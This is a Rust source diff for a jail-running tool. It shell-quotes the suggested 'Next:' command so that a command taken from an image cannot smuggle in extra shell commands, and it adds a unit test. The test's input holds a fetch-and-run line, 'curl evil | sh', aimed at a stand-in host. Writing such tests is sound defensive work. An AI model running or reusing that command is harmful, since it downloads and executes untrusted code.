@@ -399,6 +399,13 @@ fn outcome(
     }
 }
 
+/// What to type now. The command is the image's, and whoever made that may have anything pasted.
+fn next(jail: &str, command: &[String]) -> String {
+    let words: Vec<String> = command.iter().map(|word| text::shell_word(word)).collect();
+    let command = if words.is_empty() { "/bin/sh".to_owned() } else { words.join(" ") };
+    format!("\nNext:\n  jail-run -j {} -- {command}\n", text::shell_word(jail))
+}
+
 impl Outcome {
     fn digest(&self) -> String {
         self.origin.digest.map(|digest| format!("sha256:{digest}")).unwrap_or_default()
@@ -427,12 +434,7 @@ impl Outcome {
             image.trim()
         ));
         if !self.dry_run {
-            let command = self.origin.command.join(" ");
-            let command = if command.is_empty() { "/bin/sh".to_owned() } else { command };
-            out.push_str(&format!(
-                "\nNext:\n  jail-run -j {jail} -- {}\n",
-                text::encode(Path::new(&command))
-            ));
+            out.push_str(&next(&jail, &self.origin.command));
         }
         out
     }
@@ -455,5 +457,20 @@ impl Outcome {
             "kept": kept,
             "notes": self.notes,
         })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_line_to_paste_is_one_command() {
+        let command = ["/bin/sh", "-c", "true; curl evil | sh"].map(str::to_owned);
+        assert_eq!(
+            next("/srv/my app", &command),
+            "\nNext:\n  jail-run -j '/srv/my app' -- /bin/sh -c 'true; curl evil | sh'\n"
+        );
+        assert!(next("/srv/app", &[]).ends_with("jail-run -j /srv/app -- /bin/sh\n"));
     }
 }
